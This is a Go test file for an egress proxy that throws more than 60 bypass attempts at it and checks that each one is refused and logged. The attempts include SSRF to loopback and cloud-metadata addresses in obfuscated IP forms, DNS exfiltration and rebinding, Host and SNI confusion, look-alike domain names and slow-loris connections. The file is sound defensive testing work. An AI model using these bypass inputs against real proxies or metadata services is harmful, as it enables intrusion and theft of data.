package relay

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

// bypassCase is one attempt by a hostile workload to reach something the
// policy does not allow. Every case must be refused: the workload sees
// the refusal (403 with X-Vetto-Deny, SOCKS5 0x02, DNS REFUSED, a closed
// connection with nothing forwarded), and the audit has one deny event
// per connection or query, with the expected denial id.
type bypassCase struct {
	attack string // what it attacks
	want   string // the denial id; "" when the probe asserts everything itself
	edit   func(*Settings)
	hc     func(port uint16) harnessConfig
	probe  func(t *testing.T, h *harness, up *rawUpstream)
	// mayDial: the relay connects before it can judge (the SNI comes
	// after CONNECT's 200), but must forward nothing.
	mayDial bool
	events  int // events expected (default 1); all denials but DNS answers
}

// bypassSettings allows allowed.test on the upstream's port (a test host
// at 127.0.0.1, exempt from the deny set), so a relay that wrongly allowed
// an attack would really reach the upstream and the test would see it.
func bypassSettings(port uint16) Settings {
	p := fmt.Sprint(port)
	return Settings{
		Mode:             ModeAllowlist,
		Allow:            []string{"allowed.test:" + p, "*.wild.test", "apple.com", "*.deny.test:" + p, "rebind.test:" + p, "pinned.test:" + p},
		TestHosts:        map[string][]netip.Addr{"allowed.test": {netip.MustParseAddr("127.0.0.1")}},
		Exempt:           []netip.Prefix{netip.MustParsePrefix("127.0.0.1/32")},
		HostAddrs:        []netip.Addr{netip.MustParseAddr("93.184.216.34")},
		HandshakeTimeout: 300 * time.Millisecond,
		MaxConns:         8,
	}
}

func strict(port uint16) func(*Settings) {
	return func(s *Settings) {
		s.Mode = ModeStrict
		s.Allow = []string{fmt.Sprintf("allowed.test:%d", port)}
	}
}

// httpDenied sends a raw request (%d is the upstream's port) and wants
// the status and X-Vetto-Deny.
func httpDenied(raw string, status int, id string) func(*testing.T, *harness, *rawUpstream) {
	return func(t *testing.T, h *harness, up *rawUpstream) {
		if strings.Contains(raw, "%d") {
			raw = strings.ReplaceAll(raw, "%d", fmt.Sprint(up.port))
		}
		resp, body := h.roundTrip(raw)
		if resp.StatusCode != status || resp.Header.Get("X-Vetto-Deny") != id {
			t.Errorf("%q: got %d X-Vetto-Deny %q, want %d %q; body %q", firstLine(raw), resp.StatusCode, resp.Header.Get("X-Vetto-Deny"), status, id, body)
		}
	}
}

func connectDenied(auth, id string) func(*testing.T, *harness, *rawUpstream) {
	return httpDenied("CONNECT "+auth+" HTTP/1.1\r\nHost: "+auth+"\r\n\r\n", statusFor(id), id)
}

func socksDenied(atyp byte, addr []byte, port uint16, reply byte) func(*testing.T, *harness, *rawUpstream) {
	return func(t *testing.T, h *harness, up *rawUpstream) {
		if port == 0 {
			port = up.port
		}
		if got, _ := h.socks(atyp, addr, port); got != reply {
			t.Errorf("socks reply = 0x%02x, want 0x%02x", got, reply)
		}
	}
}

// socksRaw sends bytes after the greeting's first byte and wants the
// connection closed with the given reply bytes (nil: any).
func socksRaw(send []byte, reply []byte) func(*testing.T, *harness, *rawUpstream) {
	return func(t *testing.T, h *harness, up *rawUpstream) {
		c := h.dialProxy()
		c.Write(send)
		got := expectClosed(t, c, 2*time.Second)
		if reply != nil && !strings.HasPrefix(string(got), "\x05\x00"+string(reply)) && !strings.HasPrefix(string(got), string(reply)) {
			t.Errorf("got % x, want the reply % x", got, reply)
		}
	}
}

func dnsRefused(name string, typ dnsmessage.Type) func(*testing.T, *harness, *rawUpstream) {
	return func(t *testing.T, h *harness, up *rawUpstream) {
		m := unpack(t, h.udpExchange(dnsQuery(t, name, typ, true)))
		if m.RCode != dnsmessage.RCodeRefused || len(m.Answers) != 0 {
			t.Errorf("%s %s: got %v with %d answers, want REFUSED and none", name, typ, m.RCode, len(m.Answers))
		}
		if code, text, ok := ede(m); !ok || code != edeBlocked || text == "" {
			t.Errorf("%s %s: EDE = %d %q %v, want %d (Blocked) with the rule to add", name, typ, code, text, ok, edeBlocked)
		}
		if n := h.res.total(); n != 0 {
			t.Errorf("%s %s: the stub asked upstream %d times, want never", name, typ, n)
		}
	}
}

// tunnelRefused opens a CONNECT tunnel (or a SOCKS5 one) that the relay
// allows by name, then sends first; the relay must close it and forward
// nothing.
func tunnelRefused(viaSOCKS bool, first func(t *testing.T) []byte) func(*testing.T, *harness, *rawUpstream) {
	return func(t *testing.T, h *harness, up *rawUpstream) {
		var c net.Conn
		if viaSOCKS {
			code, sc := h.socks(3, []byte("allowed.test"), up.port)
			if code != 0 {
				t.Fatalf("socks reply 0x%02x, want 0 before the SNI check", code)
			}
			c = sc
		} else {
			c = h.dialProxy()
			fmt.Fprintf(c, "CONNECT allowed.test:%d HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", up.port, up.port)
			resp, err := http.ReadResponse(newReader(c), nil)
			if err != nil || resp.StatusCode != 200 {
				t.Fatalf("CONNECT: %v %v, want 200 before the SNI check", resp, err)
			}
		}
		c.Write(first(t))
		expectClosed(t, c, 2*time.Second)
	}
}

// transparentRefused resolves allowed.test through the stub, connects to
// its address on the transparent port and sends first.
func transparentRefused(first func(t *testing.T) []byte) func(*testing.T, *harness, *rawUpstream) {
	return func(t *testing.T, h *harness, up *rawUpstream) {
		if a := h.resolveFake("allowed.test"); a != netip.MustParseAddr("127.77.0.1") {
			t.Fatalf("stub address = %s, want 127.77.0.1 (the listener's)", a)
		}
		c, err := net.Dial("tcp4", h.trans[up.port])
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		c.Write(first(t))
		b := expectClosed(t, c, 2*time.Second)
		if strings.HasPrefix(string(b), "HTTP/1.1 200") {
			t.Errorf("got %q, want a refusal", b)
		}
	}
}

func hello(name string) func(t *testing.T) []byte {
	return func(t *testing.T) []byte { return clientHello(t, name) }
}

func bytesOf(b []byte) func(t *testing.T) []byte { return func(*testing.T) []byte { return b } }

func transparentAt(addr string) func(uint16) harnessConfig {
	return func(p uint16) harnessConfig { return harnessConfig{transparent: map[uint16]string{p: addr}} }
}

// denySetCases: an allowed name whose every answer is in one row of the
// deny set (the resolver is the test's), per row and per embedded form.
func denySetCases() []bypassCase {
	rows := []struct{ addr, id string }{
		{"169.254.169.254", "cloud-metadata"}, {"100.100.100.200", "cloud-metadata"}, {"255.255.255.255", "broadcast"},
		{"0.0.0.0", "this-network"}, {"10.0.0.1", "private"}, {"172.16.5.4", "private"}, {"192.168.1.1", "private"},
		{"100.64.0.1", "cgnat"}, {"127.0.0.2", "loopback"}, {"169.254.10.1", "link-local"}, {"192.0.0.8", "ietf-protocol"},
		{"192.0.2.1", "documentation"}, {"198.51.100.1", "documentation"}, {"203.0.113.1", "documentation"},
		{"192.88.99.1", "6to4-relay"}, {"198.18.0.1", "benchmark"}, {"224.0.0.1", "multicast"}, {"240.0.0.1", "reserved"},
		{"93.184.216.34", "host-address"},
		{"::1", "loopback"}, {"::", "unspecified"}, {"fd00:ec2::254", "cloud-metadata"}, {"fd00::1", "ula"},
		{"fe80::1", "link-local"}, {"fec0::1", "site-local"}, {"ff02::1", "multicast"}, {"2001:db8::1", "documentation"},
		{"64:ff9b:1::1", "nat64-local"}, {"100::1", "discard"}, {"2001:2::1", "benchmark"}, {"4000::1", "not-global"},
		{"::ffff:127.0.0.2", "v4-mapped:loopback"}, {"64:ff9b::a9fe:a9fe", "nat64:cloud-metadata"},
		{"2002:c0a8:101::1", "6to4:private"}, {"2001:0:4136:e378:8000:63bf:80ff:fffe", "teredo:loopback"},
		{"::10.0.0.1", "v4-compatible:private"},
	}
	var cs []bypassCase
	for i, r := range rows {
		name := fmt.Sprintf("r%d.deny.test", i)
		addr := netip.MustParseAddr(r.addr)
		cs = append(cs, bypassCase{
			attack: fmt.Sprintf("answer %s (%s)", r.addr, r.id),
			want:   "deny-set:" + r.id,
			hc: func(uint16) harnessConfig {
				return harnessConfig{resolve: map[string][][]netip.Addr{name: {{addr}}}}
			},
			probe: func(t *testing.T, h *harness, up *rawUpstream) {
				resp, body := h.roundTrip(fmt.Sprintf("CONNECT %s:%d HTTP/1.1\r\n\r\n", name, up.port))
				if resp.StatusCode != 403 || resp.Header.Get("X-Vetto-Deny") != "deny-set:"+r.id || !strings.Contains(string(body), "deny set") {
					t.Errorf("got %d %q %q, want 403 deny-set:%s saying it is the deny set", resp.StatusCode, resp.Header.Get("X-Vetto-Deny"), body, r.id)
				}
			},
		})
	}
	return cs
}

func bypassCases() []bypassCase {
	cs := []bypassCase{
		// IPv4 literals in every form inet_aton reads, and IPv6 ones.
		{attack: "CONNECT dotted quad", want: "ip-literal", probe: connectDenied("127.0.0.1:443", "ip-literal")},
		{attack: "CONNECT short form 127.1", want: "numeric-name", probe: connectDenied("127.1:443", "numeric-name")},
		{attack: "CONNECT hex 0x7f000001", want: "numeric-name", probe: connectDenied("0x7f000001:443", "numeric-name")},
		{attack: "CONNECT hex parts 0x7f.1", want: "numeric-name", probe: connectDenied("0x7f.1:443", "numeric-name")},
		{attack: "CONNECT octal 0177.0.0.1", want: "numeric-name", probe: connectDenied("0177.0.0.1:443", "numeric-name")},
		{attack: "CONNECT octal 017700000001", want: "numeric-name", probe: connectDenied("017700000001:443", "numeric-name")},
		{attack: "CONNECT decimal 2130706433", want: "numeric-name", probe: connectDenied("2130706433:443", "numeric-name")},
		{attack: "CONNECT metadata literal", want: "ip-literal", probe: connectDenied("169.254.169.254:80", "ip-literal")},
		{attack: "CONNECT 0.0.0.0", want: "ip-literal", probe: connectDenied("0.0.0.0:443", "ip-literal")},
		{attack: "CONNECT IPv6 loopback", want: "ip-literal", probe: connectDenied("[::1]:443", "ip-literal")},
		{attack: "CONNECT v4-mapped loopback", want: "ip-literal", probe: connectDenied("[::ffff:127.0.0.1]:443", "ip-literal")},
		{attack: "CONNECT NAT64 of loopback", want: "ip-literal", probe: connectDenied("[64:ff9b::7f00:1]:443", "ip-literal")},
		{attack: "CONNECT zone id, percent-encoded", want: "ip-literal", probe: connectDenied("[fe80::1%25eth0]:443", "ip-literal")},
		{attack: "CONNECT zone id, raw", want: "bad-request", probe: connectDenied("[fe80::1%eth0]:443", "bad-request")},
		{attack: "absolute-form dotted quad", want: "ip-literal", probe: httpDenied("GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n", 403, "ip-literal")},
		{attack: "absolute-form decimal", want: "numeric-name", probe: httpDenied("GET http://2130706433/ HTTP/1.1\r\nHost: 2130706433\r\n\r\n", 403, "numeric-name")},
		{attack: "absolute-form IPv6 literal", want: "ip-literal", probe: httpDenied("GET http://[::1]/ HTTP/1.1\r\nHost: [::1]\r\n\r\n", 403, "ip-literal")},

		// SOCKS5.
		{attack: "SOCKS5 ATYP IPv4", want: "ip-literal", probe: socksDenied(1, []byte{127, 0, 0, 1}, 0, 0x02)},
		{attack: "SOCKS5 ATYP IPv6", want: "ip-literal", probe: socksDenied(4, netip.MustParseAddr("::1").AsSlice(), 0, 0x02)},
		{attack: "SOCKS5 IP literal as a domain", want: "ip-literal", probe: socksDenied(3, []byte("127.0.0.1"), 0, 0x02)},
		{attack: "SOCKS5 numeric name as a domain", want: "numeric-name", probe: socksDenied(3, []byte("0x7f.1"), 0, 0x02)},
		{attack: "SOCKS5 name with a port inside", want: "bad-name", probe: socksDenied(3, []byte("allowed.test:443.evil.test"), 0, 0x02)},
		{attack: "SOCKS5 unlisted name", want: "no-rule", probe: socksDenied(3, []byte("evil.test"), 443, 0x02)},
		{attack: "SOCKS5 BIND", want: "socks", probe: socksRaw([]byte{5, 1, 0, 5, 2, 0, 3, 12, 'a', 'l', 'l', 'o', 'w', 'e', 'd', '.', 't', 'e', 's', 't', 0, 80}, []byte{5, 7})},
		{attack: "SOCKS5 UDP ASSOCIATE", want: "socks", probe: socksRaw([]byte{5, 1, 0, 5, 3, 0, 1, 0, 0, 0, 0, 0, 0}, []byte{5, 7})},
		{attack: "SOCKS5 with credentials only", want: "socks", probe: socksRaw([]byte{5, 1, 2}, []byte{5, 0xff})},
		{attack: "SOCKS4", want: "socks", probe: socksRaw([]byte{4, 1, 0, 80, 127, 0, 0, 1, 0}, nil)},

		// Names: dots, case, IDN look-alikes, confusion, wildcards, ports.
		{attack: "two trailing dots", want: "bad-name", probe: connectDenied("allowed.test..:443", "bad-name")},
		{attack: "leading dot", want: "bad-name", probe: connectDenied(".allowed.test:443", "bad-name")},
		{attack: "upper case of an unlisted name", want: "no-rule", probe: connectDenied("EVIL.TEST:443", "no-rule")},
		{attack: "upper case A-label look-alike", want: "no-rule", probe: connectDenied("XN--PPLE-43D.COM:443", "no-rule")},
		{attack: "Cyrillic look-alike as UTF-8", want: "bad-name", probe: connectDenied("\u0430pple.com:443", "bad-name")},
		{attack: "Cyrillic look-alike as A-label", want: "no-rule", probe: connectDenied("xn--pple-43d.com:443", "no-rule")},
		{attack: "fullwidth dot", want: "bad-name", probe: connectDenied("apple\uff0ecom:443", "bad-name")},
		{attack: "ideographic dot", want: "bad-name", probe: connectDenied("apple\u3002com:443", "bad-name")},
		{attack: "port inside the host", want: "bad-request", probe: connectDenied("allowed.test:443.evil.test:443", "bad-request")},
		{attack: "Host header with a port inside", want: "host-mismatch", probe: httpDenied("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d.evil.test\r\n\r\n", 400, "host-mismatch")},
		{attack: "wildcard apex", want: "no-rule", probe: connectDenied("wild.test:443", "no-rule")},
		{attack: "wildcard suffix without a dot", want: "no-rule", probe: connectDenied("evilwild.test:443", "no-rule")},
		{attack: "allowed name as a prefix", want: "no-rule", probe: connectDenied("allowed.test.evil.test:443", "no-rule")},
		{attack: "allowed name on another port", want: "port", probe: connectDenied("allowed.test:22", "port")},
		{attack: "bare rule on a port other than 80/443", want: "port", probe: connectDenied("apple.com:8443", "port")},
		{attack: "localhost", want: "no-rule", probe: connectDenied("localhost:443", "no-rule")},

		// Userinfo, Host header, methods, forms.
		{attack: "CONNECT with userinfo", want: "userinfo", probe: connectDenied("user@allowed.test:443", "userinfo")},
		{attack: "absolute-form with userinfo", want: "userinfo", probe: httpDenied("GET http://user:pw@allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", 400, "userinfo")},
		{attack: "absolute-form allowed@evil", want: "userinfo", probe: httpDenied("GET http://allowed.test:%d@evil.test/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", 400, "userinfo")},
		{attack: "Host header names another host", want: "host-mismatch", probe: httpDenied("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: evil.test\r\n\r\n", 400, "host-mismatch")},
		{attack: "Host header names another port", want: "host-mismatch", probe: httpDenied("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:9999\r\n\r\n", 400, "host-mismatch")},
		{attack: "no Host header", want: "host-mismatch", probe: httpDenied("GET http://allowed.test:%d/ HTTP/1.1\r\n\r\n", 400, "host-mismatch")},
		{attack: "two Host headers", want: "bad-request", probe: httpDenied("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\nHost: evil.test\r\n\r\n", 400, "bad-request")},
		{attack: "CONNECT with another Host", want: "host-mismatch", probe: httpDenied("CONNECT allowed.test:%d HTTP/1.1\r\nHost: evil.test:%d\r\n\r\n", 400, "host-mismatch")},
		{attack: "TRACE", want: "method", probe: httpDenied("TRACE http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", 405, "method")},
		{attack: "TRACK", want: "method", probe: httpDenied("TRACK http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", 405, "method")},
		{attack: "https absolute-form", want: "bad-request", probe: httpDenied("GET https://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", 400, "bad-request")},
		{attack: "origin-form to the proxy", want: "bad-request", probe: httpDenied("GET / HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", 400, "bad-request")},
		{attack: "oversized header", want: "header-too-large", probe: httpDenied("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\nX-Pad: "+strings.Repeat("a", 20<<10)+"\r\n\r\n", 431, "header-too-large")},
		{attack: "oversized request line", want: "header-too-large", probe: httpDenied("GET http://allowed.test:%d/"+strings.Repeat("a", 20<<10)+" HTTP/1.1\r\nHost: allowed.test:%d\r\n\r\n", 431, "header-too-large")},
		{attack: "many small headers", want: "header-too-large", probe: httpDenied("GET http://allowed.test:%d/ HTTP/1.1\r\nHost: allowed.test:%d\r\n"+strings.Repeat("X-A: b\r\n", 4000)+"\r\n", 431, "header-too-large")},
		{attack: "TLS on the proxy port", want: "bad-request", probe: func(t *testing.T, h *harness, up *rawUpstream) {
			c := h.dialProxy()
			c.Write(clientHello(t, "allowed.test"))
			expectClosed(t, c, 2*time.Second)
		}},
		{attack: "slow loris head", want: "timeout", probe: func(t *testing.T, h *harness, up *rawUpstream) {
			c := h.dialProxy()
			fmt.Fprintf(c, "CONNECT allowed.test:%d HTTP/1.1\r\nX-A: ", up.port)
			stop := make(chan struct{})
			defer close(stop)
			go func() {
				for {
					select {
					case <-stop:
						return
					case <-time.After(20 * time.Millisecond):
						if _, err := c.Write([]byte("a")); err != nil {
							return
						}
					}
				}
			}()
			start := time.Now()
			expectClosed(t, c, 3*time.Second)
			if d := time.Since(start); d > 1500*time.Millisecond {
				t.Errorf("a byte every 20ms kept the head open %s, want about the 300ms handshake timeout", d)
			}
		}},
		{attack: "slow loris silence", want: "timeout", probe: func(t *testing.T, h *harness, up *rawUpstream) {
			expectClosed(t, h.dialProxy(), 2*time.Second)
		}},
		{attack: "connection limit", want: "limit", edit: func(s *Settings) { s.MaxConns = 2 }, events: 3, probe: func(t *testing.T, h *harness, up *rawUpstream) {
			a, b := h.dialProxy(), h.dialProxy()
			time.Sleep(50 * time.Millisecond) // both accepted and holding a slot
			c := h.dialProxy()
			start := time.Now()
			expectClosed(t, c, 2*time.Second)
			if d := time.Since(start); d > 200*time.Millisecond {
				t.Errorf("the third connection waited %s, want refused at once", d)
			}
			expectClosed(t, a, 2*time.Second)
			expectClosed(t, b, 2*time.Second)
		}},
		{attack: "name that does not resolve", want: "resolve", probe: connectDenied("nx.deny.test:%d", "resolve")},

		// DNS: nothing but A/AAAA/HTTPS/SVCB for allowed names, nothing upstream.
		{attack: "DNS TXT for an allowed name", want: "dns-type", probe: dnsRefused("allowed.test.", dnsmessage.TypeTXT)},
		{attack: "DNS ANY", want: "dns-type", probe: dnsRefused("allowed.test.", dnsmessage.TypeALL)},
		{attack: "DNS MX", want: "dns-type", probe: dnsRefused("apple.com.", dnsmessage.TypeMX)},
		{attack: "DNS PTR", want: "no-rule", probe: dnsRefused("1.0.0.127.in-addr.arpa.", dnsmessage.TypePTR)},
		{attack: "DNS exfiltration in a TXT name", want: "no-rule", probe: dnsRefused("c2VjcmV0.evil.test.", dnsmessage.TypeTXT)},
		{attack: "DNS A for an unlisted name", want: "no-rule", probe: dnsRefused("evil.test.", dnsmessage.TypeA)},
		{attack: "DNS A for a numeric name", want: "numeric-name", probe: dnsRefused("127.1.", dnsmessage.TypeA)},
		{attack: "DNS A for a wildcard's apex", want: "no-rule", probe: dnsRefused("wild.test.", dnsmessage.TypeA)},
		{attack: "DNS label with a dot inside", want: "bad-request", probe: func(t *testing.T, h *harness, up *rawUpstream) {
			// One label "x.wild" then "test": dnsmessage would print
			// x.wild.test, a name the wildcard allows.
			q := []byte{0x42, 0x42, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 6, 'x', '.', 'w', 'i', 'l', 'd', 4, 't', 'e', 's', 't', 0, 0, 1, 0, 1}
			m := unpack(t, h.udpExchange(q))
			if m.RCode != dnsmessage.RCodeFormatError || len(m.Answers) != 0 {
				t.Errorf("got %v with %d answers, want FORMERR and none", m.RCode, len(m.Answers))
			}
		}},
		{attack: "DNS class CHAOS", want: "dns-type", probe: func(t *testing.T, h *harness, up *rawUpstream) {
			b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 7})
			b.StartQuestions()
			b.Question(dnsmessage.Question{Name: dnsmessage.MustNewName("version.bind."), Type: dnsmessage.TypeTXT, Class: dnsmessage.ClassCHAOS})
			q, _ := b.Finish()
			if m := unpack(t, h.udpExchange(q)); m.RCode != dnsmessage.RCodeRefused {
				t.Errorf("got %v, want REFUSED", m.RCode)
			}
		}},
		{attack: "DNS exfiltration below an allowed wildcard", events: 1, want: "", probe: func(t *testing.T, h *harness, up *rawUpstream) {
			m := unpack(t, h.udpExchange(dnsQuery(t, "c2VjcmV0.wild.test.", dnsmessage.TypeA, false)))
			if m.RCode != dnsmessage.RCodeSuccess || len(m.Answers) != 1 {
				t.Fatalf("got %v with %d answers, want the stub's address", m.RCode, len(m.Answers))
			}
			if a := netip.AddrFrom4(m.Answers[0].Body.(*dnsmessage.AResource).A); !netip.MustParsePrefix("127.77.0.0/16").Contains(a) {
				t.Errorf("answer %s, want one from the stub's range, never a real one", a)
			}
			if n := h.res.total(); n != 0 {
				t.Errorf("the stub asked upstream %d times, want never: the name would have left the relay", n)
			}
		}},

		// Rebinding: the relay resolves once and pins.
		{attack: "rebinding to metadata after an allowed answer (TTL 0)", want: "", events: 2,
			hc: func(uint16) harnessConfig {
				return harnessConfig{resolve: map[string][][]netip.Addr{"rebind.test": {{netip.MustParseAddr("127.0.0.1")}, {netip.MustParseAddr("169.254.169.254")}}}}
			},
			probe: func(t *testing.T, h *harness, up *rawUpstream) {
				for i := 0; i < 2; i++ {
					c := h.dialProxy()
					fmt.Fprintf(c, "CONNECT rebind.test:%d HTTP/1.1\r\n\r\n", up.port)
					br := newReader(c)
					if resp, err := http.ReadResponse(br, nil); err != nil || resp.StatusCode != 200 {
						t.Fatalf("CONNECT %d: %v %v", i, resp, err)
					}
					c.Write([]byte("x"))
					if b, err := br.ReadByte(); err != nil || b != 'x' {
						t.Fatalf("echo through tunnel %d: %q %v", i, b, err)
					}
					c.Close()
				}
				if n := h.res.total(); n != 1 {
					t.Errorf("resolved %d times, want once (pinned)", n)
				}
				for _, d := range h.dials() {
					if !strings.HasPrefix(d, "127.0.0.1:") {
						t.Errorf("dialled %s, want only the pinned 127.0.0.1", d)
					}
				}
			}},
		{attack: "rebinding from a denied answer to an exempt one", want: "deny-set:private", events: 2,
			hc: func(uint16) harnessConfig {
				return harnessConfig{resolve: map[string][][]netip.Addr{"pinned.test": {{netip.MustParseAddr("10.0.0.1")}, {netip.MustParseAddr("127.0.0.1")}}}}
			},
			probe: func(t *testing.T, h *harness, up *rawUpstream) {
				for i := 0; i < 2; i++ {
					resp, _ := h.roundTrip(fmt.Sprintf("CONNECT pinned.test:%d HTTP/1.1\r\n\r\n", up.port))
					if resp.StatusCode != 403 {
						t.Errorf("CONNECT %d: %d, want 403 both times (the first answer is pinned)", i, resp.StatusCode)
					}
				}
			}},

		// SNI at strict (and at allowlist with CheckSNI).
		{attack: "strict: SNI names another host", want: "sni-mismatch", mayDial: true, probe: tunnelRefused(false, hello("evil.test"))},
		{attack: "strict: no SNI", want: "sni-missing", mayDial: true, probe: tunnelRefused(false, hello(""))},
		{attack: "strict: not TLS", want: "not-tls", mayDial: true, probe: tunnelRefused(false, bytesOf([]byte("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")))},
		{attack: "strict: IP literal in the SNI", want: "sni-mismatch", mayDial: true, probe: tunnelRefused(false, bytesOf(rawHello(sniExt("127.0.0.1"))))},
		{attack: "strict: two server names", want: "not-tls", mayDial: true, probe: tunnelRefused(false, bytesOf(rawHello(sniExt("allowed.test", "evil.test"))))},
		{attack: "strict: SNI extension twice", want: "not-tls", mayDial: true, probe: tunnelRefused(false, bytesOf(rawHello(sniExt("allowed.test"), sniExt("evil.test"))))},
		{attack: "strict: SOCKS5 with another SNI", want: "sni-mismatch", mayDial: true, probe: tunnelRefused(true, hello("evil.test"))},
		{attack: "strict: SNI silence", want: "timeout", mayDial: true, probe: tunnelRefused(false, bytesOf(nil))},
		{attack: "allowlist with CheckSNI: SNI names another host", want: "sni-mismatch", mayDial: true,
			edit: func(s *Settings) { s.CheckSNI = true }, probe: tunnelRefused(false, hello("evil.test"))},

		// Transparent listeners.
		{attack: "transparent: SNI names another host", want: "sni-mismatch", events: 2, hc: transparentAt("127.77.0.1:0"), probe: transparentRefused(hello("evil.test"))},
		{attack: "transparent: no SNI", want: "sni-missing", events: 2, hc: transparentAt("127.77.0.1:0"), probe: transparentRefused(hello(""))},
		{attack: "transparent: Host names another host", want: "host-mismatch", events: 2, hc: transparentAt("127.77.0.1:0"),
			probe: transparentRefused(bytesOf([]byte("GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")))},
		{attack: "transparent: absolute-form to elsewhere", want: "bad-request", events: 2, hc: transparentAt("127.77.0.1:0"),
			probe: transparentRefused(bytesOf([]byte("GET http://evil.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")))},
		{attack: "transparent: an address the stub never gave", want: "no-name", hc: transparentAt("127.0.0.1:0"), probe: func(t *testing.T, h *harness, up *rawUpstream) {
			c, err := net.Dial("tcp4", h.trans[up.port])
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			c.Write(clientHello(t, "allowed.test"))
			expectClosed(t, c, 2*time.Second)
		}},
	}
	return append(cs, denySetCases()...)
}

func TestBypass(t *testing.T) {
	cases := bypassCases()
	if len(cases) < 60 {
		t.Fatalf("%d bypass cases, want at least 60", len(cases))
	}
	for _, tc := range cases {
		t.Run(tc.attack, func(t *testing.T) {
			t.Parallel()
			up := newRawUpstream(t)
			s := bypassSettings(up.port)
			if strings.HasPrefix(tc.attack, "strict:") {
				strict(up.port)(&s)
			}
			if tc.edit != nil {
				tc.edit(&s)
			}
			var hc harnessConfig
			if tc.hc != nil {
				hc = tc.hc(up.port)
			}
			h := newHarness(t, s, hc)
			tc.probe(t, h, up)
			want := max(tc.events, 1)
			evs := h.waitEvents(want)
			if len(evs) != want {
				t.Fatalf("got %d events, want %d: %+v", len(evs), want, evs)
			}
			conns, bytes := up.received()
			if tc.want == "" {
				return // the probe asserted what blocks it
			}
			found := false
			for _, e := range evs {
				if e.Protocol != ProtoDNS && e.Verdict != Deny {
					t.Errorf("event %+v: verdict %s, want deny", e, e.Verdict)
				}
				found = found || e.Verdict == Deny && e.Rule == tc.want
			}
			if !found {
				t.Errorf("no deny event with rule %q: %+v", tc.want, evs)
			}
			if !tc.mayDial && (conns != 0 || len(h.dials()) != 0) {
				t.Errorf("the relay connected upstream (%d, %v), want no connection", conns, h.dials())
			}
			if bytes != 0 {
				t.Errorf("the upstream received %d bytes, want none", bytes)
			}
		})
	}
}

func newReader(c net.Conn) *bufio.Reader { return bufio.NewReader(c) }
